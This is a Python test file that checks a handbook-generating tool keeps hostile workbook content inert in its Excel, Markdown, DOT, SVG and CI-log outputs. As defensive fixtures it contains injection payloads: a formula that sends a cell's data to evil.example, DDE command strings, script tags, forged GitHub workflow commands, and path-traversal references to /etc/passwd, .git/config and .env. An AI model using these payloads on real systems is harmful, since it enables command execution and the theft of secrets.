"""Nothing slips through: what a workbook carries reaches every output as inert text.

A hostile unit writes formulas, HTML, Markdown, Graphviz syntax and workflow commands into its
cells. Each command that writes a file is run on such a workbook (in a subprocess, as a user runs
it) and its output is inspected: Excel cells are text, never formulas; Markdown tables keep their
columns; DOT parses as one graph; no raw HTML; no forged CI annotation; no file from outside the
project copied into a handbook.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import openpyxl
import pytest

from hostile import run_lianfang
from lianfang.handbook.filters import mdcell

# Text that Excel (or a CSV consumer) runs as a formula when it is the start of a cell.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=2+2",  # leading white space is stripped by the readers, so this arrives as "=2+2"
    "\r=3+3",
]
# Text that means something in Markdown, HTML, Graphviz or a GitHub workflow log.
MARKUP = [
    '<script>alert("x")</script>',
    "甲 | 乙 | 丙",
    "第一行\n第二行 | 仍在单元格内",
    "[点击领取](https://evil.example/x)",
    "![](https://evil.example/pixel.png)",
    '"; evil [label="x"]; a -> b; "',
    "} subgraph cluster_x { label=evil",
    r"\N \G \L \l \\",
    "<b>加粗</b> &amp; &lt;",
    "# 标题",
    "> 引用",
    "{{ 7*7 }} {% raw %}",
    "::error file=x::伪造的注释",
    "%0A::warning::编码的换行",
]


def hostile_workbook() -> dict:
    """A workbook (as YAML data) whose every free-text field is hostile; no reading errors."""
    f, m = FORMULAS, MARKUP
    return {
        "unit": {"name": f"{m[0]}{m[1]}", "code": "EVIL", "parent": f[0], "year": 2026, "status": "送审",
                 "contact": f[1], "phone": f[2], "criteria": {"高": f[3], "中": m[2], "低": m[3]}},
        "posts": [
            {"id": "GW-01", "name": f[0], "department": m[0], "tier": "领导岗位", "holders": [f[4], m[1]]},
            {"id": "GW-02", "name": m[5], "department": m[6], "tier": "中层岗位", "holders": [f[1]]},
            {"id": "GW-03", "name": m[7], "department": f[2], "tier": "其他重要岗位", "note": f[3]},
        ],
        "powers": [
            {"id": "QL-01", "name": f[0], "kind": "行政许可", "content": m[2], "level": "单位", "subject": m[1],
             "basis": m[8], "procedure": f[1], "time_limit": m[4], "posts": ["GW-01", "GW-02"], "note": f[5]},
        ],
        "risks": [
            {"id": "FX-01", "power": "QL-01", "post": "GW-01", "category": "思想道德", "description": f[0], "level": "高",
             "review_note": m[9]},
            {"id": "FX-02", "power": "QL-01", "post": "GW-02", "category": "岗位职责", "description": m[0], "level": "中"},
            {"id": "FX-03", "power": "QL-01", "post": "GW-03", "category": "业务流程", "description": m[2], "level": "中"},
            {"id": "FX-04", "power": "QL-01", "post": "GW-03", "category": "制度机制", "description": f[6] + m[1], "level": "中"},
            {"id": "FX-05", "power": "QL-01", "post": "GW-02", "category": "外部环境", "description": m[12] + m[5], "level": "中"},
        ],
        "measures": _measures(),
        "flows": [
            {"id": "LC-01", "power": "QL-01", "kind": "内部", "name": m[5] + m[6],
             "steps": [
                 {"id": "1", "name": m[0], "actor": m[6], "time_limit": f[0], "next": ["2"], "risks": ["FX-01"]},
                 {"id": "2", "name": m[5], "actor": m[7], "time_limit": m[1], "next": ["3(" + m[1] + ")", "1(退回)"],
                  "risks": ["FX-02", "FX-03", "FX-04", "FX-05"]},
                 {"id": "3", "name": m[2], "actor": f[1], "time_limit": m[12]},
             ]},
            {"id": "LC-02", "power": "QL-01", "kind": "外部", "subject": m[0], "basis": f[0], "materials": [m[1], f[3]],
             "supervision": [m[3], m[4]], "place": m[8], "phone": f[2], "fee": m[11],
             "steps": [
                 {"id": "1", "name": m[9], "actor": m[10], "next": ["2"], "risks": ["FX-01"]},
                 {"id": "2", "name": f[4], "actor": m[0]},
             ]},
        ],
        "institutions": [{"id": "ZD-01", "name": m[0] + f[0], "kind": "新建", "risks": ["FX-01"]}],
        "alerts": [{"id": "YJ-01", "date": "2026-05-12", "grade": "黄色", "risk": "FX-01", "channel": "监督检查",
                    "action": "谈话函询", "detail": m[2] + f[0], "result": m[12]}],
    }


def _measures() -> list[dict]:
    """Three measures (one per phase) for each of FX-01…FX-05, every text and owner hostile."""
    texts = FORMULAS + MARKUP
    out = []
    for i in range(1, 6):
        for j, phase in enumerate(("前期预防", "中期监控", "后期处置")):
            k = 3 * i + j
            out.append({"id": f"CS-{i}{j}", "risk": f"FX-0{i}", "phase": phase,
                        "description": texts[k % len(texts)] + "，由科室集体研究后执行", "owner": texts[(k + 7) % len(texts)]})
    return out


def write_hostile(folder: Path, name: str = "evil.yaml", data: dict | None = None) -> Path:
    path = folder / name
    # JSON is YAML: every string, newline and quote survives exactly
    path.write_text(json.dumps(data or hostile_workbook(), ensure_ascii=False, indent=1), encoding="utf-8")
    return path


def ok(result: subprocess.CompletedProcess[bytes], *allowed: int) -> str:
    stderr = result.stderr.decode("utf-8", "replace")
    assert "Traceback" not in stderr and "内部错误" not in stderr, stderr
    assert result.returncode in (allowed or (0,)), (result.returncode, stderr)
    return result.stdout.decode("utf-8")


@pytest.fixture
def evil(tmp_path) -> Path:
    path = write_hostile(tmp_path)
    report = json.loads(ok(run_lianfang("validate", path.name, "--format", "json", "--as-of", "2026-12-01", cwd=tmp_path), 0, 1))
    errors = [f for f in report["files"][0]["findings"] if f["severity"] == "error"]
    assert errors == [], errors  # hostile, but a valid workbook: every command processes all of it
    return path


# -- formula injection ------------------------------------------------------------------------


def assert_no_formulas(path: Path) -> list[str]:
    """Every cell of ``path`` is a value (no formula), in openpyxl's view and in the raw XML.
    Returns the text of every cell."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name)
                assert not re.search(rb"<(?:\w+:)?f[\s>/]", xml), f"{path.name}:{name} has a formula element"
    book = openpyxl.load_workbook(path)  # defusedxml is active (test_hostile)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}:{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@")):
                        assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    return texts


def assert_formulas_kept_as_text(texts: list[str]) -> None:
    joined = "\n".join(texts)
    for formula in FORMULAS:
        assert formula.strip() in joined, formula


def test_convert_writes_formulas_as_text(evil, tmp_path):
    ok(run_lianfang("convert", evil.name, "evil.xlsx", cwd=tmp_path), 0)
    texts = assert_no_formulas(tmp_path / "evil.xlsx")
    assert_formulas_kept_as_text(texts)
    # and back: the YAML of the xlsx is the YAML of the original
    ok(run_lianfang("convert", "evil.xlsx", "back.yaml", cwd=tmp_path), 0)
    ok(run_lianfang("convert", evil.name, "direct.yaml", cwd=tmp_path), 0)
    assert (tmp_path / "back.yaml").read_bytes() == (tmp_path / "direct.yaml").read_bytes()


def test_coverage_xlsx_writes_formulas_as_text(evil, tmp_path):
    ok(run_lianfang("coverage", evil.name, "--format", "xlsx", "-o", "coverage.xlsx", cwd=tmp_path), 0, 1)
    texts = assert_no_formulas(tmp_path / "coverage.xlsx")
    assert any(t.startswith("=HYPERLINK") for t in texts)


def test_handbook_xlsx_writes_formulas_as_text(evil, tmp_path):
    ok(run_lianfang("handbook", "build", evil.name, "-o", "hb", "--format", "md,xlsx", "--as-of", "2026-12-01",
                    cwd=tmp_path), 0, 1)
    texts = assert_no_formulas(tmp_path / "hb" / "handbook.xlsx")
    assert any(t.startswith("=HYPERLINK") for t in texts)


def test_init_example_and_blank_have_no_formulas(tmp_path):
    ok(run_lianfang("init", "blank.xlsx", cwd=tmp_path), 0)
    ok(run_lianfang("init", "example.xlsx", "--example", cwd=tmp_path), 0)
    assert_no_formulas(tmp_path / "blank.xlsx")
    assert_no_formulas(tmp_path / "example.xlsx")


# -- Markdown, HTML, DOT, CI logs -------------------------------------------------------------


def table_rows(markdown: str) -> list[list[str]]:
    """Each Markdown table row as its cells, splitting only at unescaped ``|``."""
    rows = []
    for line in markdown.splitlines():
        if line.startswith("|"):
            rows.append(re.split(r"(?<!\\)\|", line.strip())[1:-1])
    return rows


def assert_inert_markdown(text: str) -> None:
    assert "<script" not in text.lower()
    assert "<b>" not in text
    assert not re.search(r"(?<!\\)\]\(https://evil", text)  # no link or image syntax survives unescaped
    assert not re.search(r"^#+ 标题", text, flags=re.M)
    assert not re.search(r"^> 引用", text, flags=re.M)
    # every table keeps the column count of its header
    current = None
    for line in text.splitlines():
        if not line.startswith("|"):
            current = None
            continue
        cells = re.split(r"(?<!\\)\|", line.strip())[1:-1]
        if current is None:
            current = len(cells)
        assert len(cells) == current, line


def test_handbook_markdown_escapes_what_it_carries(evil, tmp_path):
    ok(run_lianfang("handbook", "build", evil.name, "-o", "hb", "--format", "md", "--as-of", "2026-12-01",
                    cwd=tmp_path), 0, 1)
    text = (tmp_path / "hb" / "handbook.md").read_text(encoding="utf-8")
    assert_inert_markdown(text)
    for value in ("alert(", "甲 \\| 乙 \\| 丙", "第一行<br>第二行", "&lt;b&gt;加粗"):
        assert value in text, value
    assert "{{ 7\\*7 }} {% raw %}" in text  # data, never a template


def test_validate_markdown_summary_escapes_what_it_carries(tmp_path):
    data = hostile_workbook()
    data["risks"][0]["level"] = "|较高| <script>x</script> [a](https://evil.example)"  # echoed by LF104
    data["posts"][0]["tier"] = "第一行\n第二行 | ![](https://evil.example/p.png)"
    path = write_hostile(tmp_path, data=data)
    text = ok(run_lianfang("validate", path.name, "--format", "markdown", cwd=tmp_path), 1)
    assert_inert_markdown(text)
    assert text.count("| LF104 bad-enum |") == 2
    assert mdcell("|较高| <script>x</script>") in text


def test_validate_github_log_cannot_be_forged(tmp_path):
    """A value holding a newline and a workflow command stays inside its own annotation."""
    data = hostile_workbook()
    data["risks"][0]["level"] = "高\n::error file=x::forged\r\n::add-mask::secret"
    write_hostile(tmp_path, "a\n::warning::名字.yaml", data)
    text = ok(run_lianfang("validate", ".", "--format", "github", cwd=tmp_path), 1)
    lines = text.splitlines()
    annotations = [line for line in lines if line.startswith("::")]
    report = json.loads(ok(run_lianfang("validate", ".", "--format", "json", cwd=tmp_path), 1))
    assert len(annotations) == len(report["files"][0]["findings"])
    assert not any(line.startswith(("::add-mask", "::error file=x", "::warning::")) for line in lines)
    assert all(line.startswith("lianfang") for line in lines if not line.startswith("::"))


def test_validate_junit_and_sarif_stay_well_formed(tmp_path):
    data = hostile_workbook()
    data["risks"][0]["level"] = ']]> <x/> \x01 "\'&'
    path = write_hostile(tmp_path, data=data)
    ET.fromstring(ok(run_lianfang("validate", path.name, "--format", "junit", cwd=tmp_path), 1))
    sarif = json.loads(ok(run_lianfang("validate", path.name, "--format", "sarif", cwd=tmp_path), 1))
    assert any("]]>" in r["message"]["text"] for r in sarif["runs"][0]["results"])


@pytest.fixture
def dot_program():
    program = shutil.which("dot")
    assert program, "Graphviz is a system dependency (make setup installs it)"
    return program


def test_flowchart_dot_parses_and_carries_no_markup(evil, tmp_path, dot_program):
    ok(run_lianfang("flowchart", evil.name, "--format", "dot", "-o", "charts", cwd=tmp_path), 0)
    charts = sorted((tmp_path / "charts").glob("*.dot"))
    assert [c.name for c in charts] == ["EVIL_LC-01_internal.dot", "EVIL_LC-02_external.dot"]
    for chart in charts:
        result = subprocess.run([dot_program, "-Tsvg", str(chart)], capture_output=True, timeout=120)
        assert result.returncode == 0 and not result.stderr.strip(), result.stderr
        svg = result.stdout.decode("utf-8")
        root = ET.fromstring(svg)  # well-formed
        tags = {el.tag.split("}")[-1] for el in root.iter()}
        assert "script" not in tags and "foreignObject" not in tags
        assert sum(1 for el in root.iter() if el.tag.endswith("}g") and el.get("class") == "graph") == 1
        # not a node of its own (a tooltip may quote the text: an escaped attribute value)
        head = re.sub(r'xlink:title="[^"]*"', "", svg).replace("&quot;", '"').split("<text")[0]
        assert "evil [label" not in head
        assert not any(el.get("id", "").startswith("evil") for el in root.iter())


def test_flowchart_svg_has_no_script(evil, tmp_path):
    ok(run_lianfang("flowchart", evil.name, "--format", "svg", "-o", "charts", cwd=tmp_path), 0)
    for chart in (tmp_path / "charts").glob("*.svg"):
        svg = chart.read_text(encoding="utf-8")
        assert "<script" not in svg and "<b>" not in svg and "&lt;script&gt;" in svg


# -- paths a workbook or handbook.yaml names ---------------------------------------------------


def test_institution_files_outside_the_project_are_not_copied(tmp_path):
    """A 制度 file naming /etc/passwd, a parent folder, or a link out of the project is refused."""
    project = tmp_path / "project"
    (project / "units").mkdir(parents=True)
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-TOKEN", encoding="utf-8")
    (project / "units" / "link.txt").symlink_to(secret)
    data = hostile_workbook()
    data["institutions"] = [
        {"id": "ZD-01", "name": "绝对路径", "kind": "新建", "file": "/etc/passwd"},
        {"id": "ZD-02", "name": "上级目录", "kind": "新建", "file": "../../secret.txt"},
        {"id": "ZD-03", "name": "链接", "kind": "新建", "file": "link.txt"},
    ]
    write_hostile(project / "units", "evil.yaml", data)
    (project / "handbook.yaml").write_text("units: [units/evil.yaml]\noutput: out\nformats: [md, xlsx]\n", encoding="utf-8")
    result = run_lianfang("handbook", "build", "--as-of", "2026-12-01", cwd=project)
    ok(result, 0, 1)
    out = project / "out"
    assert (out / "handbook.md").exists()
    for path in out.rglob("*"):
        if path.is_file():
            content = path.read_bytes()
            assert b"TOP-SECRET-TOKEN" not in content and b"root:x:0:0" not in content, path


def test_hidden_files_inside_the_project_are_not_copied(tmp_path):
    """The project folder of a CI job holds .git/config, where actions/checkout keeps its token."""
    project = tmp_path / "project"
    (project / "units").mkdir(parents=True)
    (project / ".git").mkdir()
    (project / ".git" / "config").write_text("[http]\n\textraheader = AUTHORIZATION: basic SECRET-TOKEN\n", encoding="utf-8")
    (project / ".env").write_text("PASSWORD=SECRET-TOKEN\n", encoding="utf-8")
    data = hostile_workbook()
    data["institutions"] = [
        {"id": "ZD-01", "name": "仓库配置", "kind": "新建", "file": "../.git/config"},
        {"id": "ZD-02", "name": "环境变量", "kind": "新建", "file": "../.env"},
    ]
    write_hostile(project / "units", "evil.yaml", data)
    (project / "handbook.yaml").write_text("units: [units/evil.yaml]\noutput: out\nformats: [md]\n", encoding="utf-8")
    ok(run_lianfang("handbook", "build", "--as-of", "2026-12-01", cwd=project), 0, 1)
    for path in (project / "out").rglob("*"):
        if path.is_file():
            assert b"SECRET-TOKEN" not in path.read_bytes(), path
